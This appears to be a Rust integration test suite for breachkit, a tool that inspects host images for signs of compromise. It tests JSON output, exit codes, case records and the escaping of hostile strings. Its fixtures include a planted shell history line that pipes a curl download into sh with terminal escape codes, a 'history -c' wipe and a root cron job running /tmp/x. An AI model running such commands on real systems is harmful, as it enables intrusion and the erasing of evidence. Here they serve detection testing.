//! The binary's contract, end to end: JSON and JSON-lines output, exit codes 0/1/2,
//! host paths in findings, `--only`/`--skip`/`--min-severity`, the case journal and
//! `case show`, escaping of hostile strings, and bad input that must warn, not stop.

// tests: a panic is a failed test
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use breachkit_testkit::FakeHost;
use serde_json::Value;
use std::io::Read;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

fn bin() -> &'static str {
    env!("CARGO_BIN_EXE_breachkit")
}

/// Runs breachkit with a time limit (a hang on a FIFO must fail the test, not block it).
/// stdout and stderr are drained by threads so a large report never fills the pipe.
fn run_with(args: &[&str], uid: Option<u32>) -> Output {
    let mut cmd = Command::new(bin());
    cmd.args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    if let Some(uid) = uid {
        cmd.uid(uid).gid(uid);
    }
    let mut child = cmd.spawn().expect("start breachkit");
    let drain = |mut pipe: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut buf = Vec::new();
            pipe.read_to_end(&mut buf).expect("read pipe");
            buf
        })
    };
    let stdout = drain(Box::new(child.stdout.take().expect("stdout")));
    let stderr = drain(Box::new(child.stderr.take().expect("stderr")));
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().expect("wait") {
            break status;
        }
        if started.elapsed() > Duration::from_secs(120) {
            let _ = child.kill();
            panic!("breachkit {args:?} did not finish in 120 s (hung?)");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    Output {
        status,
        stdout: stdout.join().expect("stdout reader"),
        stderr: stderr.join().expect("stderr reader"),
    }
}

fn run(args: &[&str]) -> Output {
    run_with(args, None)
}

fn json(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is not JSON ({e}):\n{}\nstderr:\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

fn case_dir() -> tempfile::TempDir {
    tempfile::tempdir().expect("case dir")
}

fn s(p: &Path) -> &str {
    p.to_str().expect("utf-8 temp path")
}

/// `breachkit check --root ROOT --case CASE EXTRA…`
fn check(root: &Path, case: &Path, extra: &[&str]) -> Output {
    let mut args = vec!["check", "--root", s(root), "--case", s(case)];
    args.extend_from_slice(extra);
    run(&args)
}

fn rules_at(doc: &Value, path: &str) -> Vec<String> {
    doc["findings"]
        .as_array()
        .expect("findings array")
        .iter()
        .filter(|f| f["path"] == path)
        .map(|f| f["rule"].as_str().unwrap_or("").to_string())
        .collect()
}

#[test]
fn planted_image_in_json_lists_every_artifact_with_host_paths() {
    let (h, expects) = FakeHost::planted();
    let case = case_dir();
    let out = check(h.root(), case.path(), &["--format", "json"]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc = json(&out);
    assert_eq!(doc["verdict"], "compromised");
    assert!(!doc["reasons"].as_array().expect("reasons").is_empty());
    for e in &expects {
        assert!(
            rules_at(&doc, &e.path).iter().any(|r| r == e.rule),
            "{e:?} missing from JSON"
        );
    }
    let text = doc["findings"].to_string();
    assert!(
        !text.contains(s(h.root())),
        "the image prefix leaked into findings"
    );
    let processes = doc["checks"]
        .as_array()
        .expect("checks")
        .iter()
        .find(|c| c["name"] == "processes")
        .cloned();
    let skipped = processes
        .as_ref()
        .and_then(|c| c["skipped"].as_str())
        .unwrap_or("");
    assert!(
        skipped.contains("running system"),
        "processes must say it was skipped: {processes:?}"
    );
    for f in doc["findings"].as_array().expect("findings") {
        for field in ["rule", "severity", "title", "explanation", "step"] {
            assert!(f[field].is_string(), "finding without {field}: {f}");
        }
    }

    // The run is in the case, and `case show` prints it back.
    let shown = run(&["case", "show", "--case", s(case.path()), "--format", "json"]);
    assert_eq!(
        shown.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&shown.stderr)
    );
    let shown = json(&shown);
    assert_eq!(shown["findings"], doc["findings"]);
    assert_eq!(shown["verdict"], "compromised");
    let human = run(&["case", "show", "--case", s(case.path())]);
    let human = String::from_utf8_lossy(&human.stdout);
    assert!(human.contains("Verdict: COMPROMISED"), "{human}");
    assert!(
        human.contains("check --root"),
        "case show names the command: {human}"
    );
}

#[test]
fn clean_twin_exits_zero_and_jsonl_is_one_finding_per_line() {
    let h = FakeHost::clean();
    let case = case_dir();
    let out = check(h.root(), case.path(), &["--format", "json"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(json(&out)["verdict"], "clean");
    let human = check(h.root(), case.path(), &[]);
    assert_eq!(human.status.code(), Some(0));
    let text = String::from_utf8_lossy(&human.stdout);
    assert!(
        text.lines()
            .nth(2)
            .is_some_and(|l| l.starts_with("Verdict: CLEAN")),
        "verdict first:\n{text}"
    );
    assert!(!text.contains('\u{1b}'), "no colour when not a terminal");

    let (p, _) = FakeHost::planted();
    let out = check(p.root(), case.path(), &["--format", "jsonl"]);
    assert_eq!(out.status.code(), Some(1));
    let lines: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("each line is a JSON finding"))
        .collect();
    assert!(lines.len() > 20);
    assert!(
        lines
            .iter()
            .all(|f| f["rule"].is_string() && f["severity"].is_string())
    );
}

#[test]
fn selection_and_threshold_follow_the_contract() {
    let h = FakeHost::empty();
    h.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    h.write("/root/.bash_history", "ls\nhistory -c\n"); // history.wipe: high
    let case = case_dir();
    let root = s(h.root());
    let c = s(case.path());
    assert_eq!(
        run(&["check", "--root", root, "--case", c]).status.code(),
        Some(1)
    );
    assert_eq!(
        run(&[
            "check",
            "--root",
            root,
            "--case",
            c,
            "--min-severity",
            "critical"
        ])
        .status
        .code(),
        Some(0)
    );
    assert_eq!(
        run(&["check", "--root", root, "--case", c, "--skip", "history"])
            .status
            .code(),
        Some(0)
    );
    let only = json(&run(&[
        "check",
        "--root",
        root,
        "--case",
        c,
        "--only",
        "history,php",
        "--format",
        "json",
    ]));
    let names: Vec<&str> = only["checks"]
        .as_array()
        .expect("checks")
        .iter()
        .filter_map(|c| c["name"].as_str())
        .collect();
    assert_eq!(names, ["history", "php"]);

    let bad = run(&["check", "--root", root, "--case", c, "--only", "nosuch"]);
    assert_eq!(bad.status.code(), Some(2));
    let err = String::from_utf8_lossy(&bad.stderr);
    assert!(
        err.contains("nosuch") && err.contains("history"),
        "error names the check and the known ones: {err}"
    );

    let missing = run(&["check", "--root", "/nonexistent/image", "--case", c]);
    assert_eq!(missing.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("/nonexistent/image"));

    let sev = run(&["check", "--min-severity", "severe"]);
    assert_eq!(sev.status.code(), Some(2), "a bad option is a usage error");

    let empty = case_dir();
    let show = run(&["case", "show", "--case", s(empty.path())]);
    assert_eq!(show.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&show.stderr).contains("no case"));
}

#[test]
fn hostile_strings_are_escaped_on_the_terminal() {
    let h = FakeHost::empty();
    h.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    h.write(
        "/root/.bash_history",
        b"curl http://x/\x1b[31mowned\x07\x1b[2J | sh \xff\xfe\n" as &[u8],
    );
    let case = case_dir();
    let out = run(&[
        "check",
        "--root",
        s(h.root()),
        "--case",
        s(case.path()),
        "--only",
        "history",
    ]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}'),
        "raw control characters reached the terminal:\n{text}"
    );
    assert!(
        text.contains("\\e[31mowned\\x07\\e[2J"),
        "escaped form shown:\n{text}"
    );
    assert!(
        text.contains("\\xff\\xfe"),
        "invalid UTF-8 shown as bytes:\n{text}"
    );
}

#[test]
fn bad_input_warns_and_the_run_completes() {
    let h = FakeHost::clean();
    // Binary garbage and invalid UTF-8 in a history file, with a real sign after it.
    let mut garbage: Vec<u8> = (0..=255u8).cycle().take(4096).collect();
    garbage.extend(b"\n\xc3\x28 bad utf8\nhistory -c\n");
    h.write("/home/admin/.bash_history", &garbage);
    // A 200 MB single-line history file.
    let big = h.path("/home/deploy/.bash_history");
    {
        use std::io::Write;
        let mut f = std::fs::File::create(&big).expect("big file");
        let chunk = vec![b'A'; 1 << 20];
        for _ in 0..200 {
            f.write_all(&chunk).expect("write");
        }
    }
    // A symlink loop and a FIFO where cron files are read, and an unreadable cron file.
    h.symlink("loop", "/etc/cron.d/loop");
    h.symlink("/etc/cron.d/dir-loop", "/etc/cron.d/dir-loop");
    h.mkfifo("/etc/cron.d/fifo");
    h.write("/etc/cron.d/secret", "* * * * * root /tmp/x\n");
    h.chmod("/etc/cron.d/secret", 0o000);
    let case = case_dir();
    std::fs::set_permissions(
        case.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o777),
    )
    .expect("chmod case");

    // Unprivileged, so that mode 000 really is unreadable.
    let out = run_with(
        &[
            "check",
            "--root",
            s(h.root()),
            "--case",
            s(case.path()),
            "--format",
            "json",
        ],
        Some(65534),
    );
    assert!(
        matches!(out.status.code(), Some(0 | 1)),
        "run completed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc = json(&out);
    let warnings: Vec<String> = doc["warnings"]
        .as_array()
        .expect("warnings")
        .iter()
        .map(|w| {
            format!(
                "{}: {}",
                w["path"].as_str().unwrap_or(""),
                w["message"].as_str().unwrap_or("")
            )
        })
        .collect();
    let has = |needle: &str, what: &str| {
        assert!(
            warnings
                .iter()
                .any(|w| w.contains(needle) && w.contains(what)),
            "no warning {needle} / {what} in {warnings:#?}"
        );
    };
    has("/etc/cron.d/fifo", "FIFO");
    has("/etc/cron.d/loop", "symbolic link");
    has("/etc/cron.d/secret", "ermission denied");
    has("/home/deploy/.bash_history", "only the first");
    has("/home/deploy/.bash_history", "longer than");
    assert!(
        rules_at(&doc, "/home/admin/.bash_history")
            .iter()
            .any(|r| r == "history.wipe"),
        "the sign after the garbage is still found"
    );
}

#[test]
fn a_default_case_that_cannot_be_written_only_warns() {
    let h = FakeHost::clean();
    // As nobody, /var/lib/breachkit is not writable: the run goes on, with a warning.
    let out = run_with(
        &["check", "--root", s(h.root()), "--format", "json"],
        Some(65534),
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc = json(&out);
    assert!(
        doc["warnings"].to_string().contains("not recorded"),
        "{}",
        doc["warnings"]
    );
    // An explicit case that cannot be written is an error before any work.
    let out = run_with(
        &[
            "check",
            "--root",
            s(h.root()),
            "--case",
            "/proc/breachkit-case",
        ],
        Some(65534),
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("/proc/breachkit-case"));
}

/// The binary has no ELF interpreter (PT_INTERP) and no DT_NEEDED libraries: it is
/// static, so `/etc/ld.so.preload` and `LD_PRELOAD` cannot hook it. The release
/// binary is checked when scripts/test built it (BREACHKIT_RELEASE_BIN).
#[test]
fn binary_is_statically_linked() {
    let mut bins = vec![bin().to_string()];
    if let Ok(release) = std::env::var("BREACHKIT_RELEASE_BIN") {
        bins.push(release);
    }
    for path in bins {
        let elf = std::fs::read(&path).expect("read binary");
        assert_eq!(&elf[..4], b"\x7fELF", "{path} is not ELF");
        assert_eq!(elf[4], 2, "64-bit ELF expected");
        let u16_at = |o: usize| u16::from_le_bytes([elf[o], elf[o + 1]]) as usize;
        let u64_at =
            |o: usize| u64::from_le_bytes(elf[o..o + 8].try_into().expect("8 bytes")) as usize;
        let (phoff, phentsize, phnum) = (u64_at(0x20), u16_at(0x36), u16_at(0x38));
        let types: Vec<u32> = (0..phnum)
            .map(|i| {
                let o = phoff + i * phentsize;
                u32::from_le_bytes(elf[o..o + 4].try_into().expect("4 bytes"))
            })
            .collect();
        const PT_INTERP: u32 = 3;
        assert!(
            !types.contains(&PT_INTERP),
            "{path} has an ELF interpreter: it is dynamically linked"
        );
        let out = Command::new("file")
            .arg(&path)
            .output()
            .expect("file(1) is installed by scripts/test");
        let desc = String::from_utf8_lossy(&out.stdout);
        assert!(desc.contains("static"), "file(1) says: {desc}");
    }
}
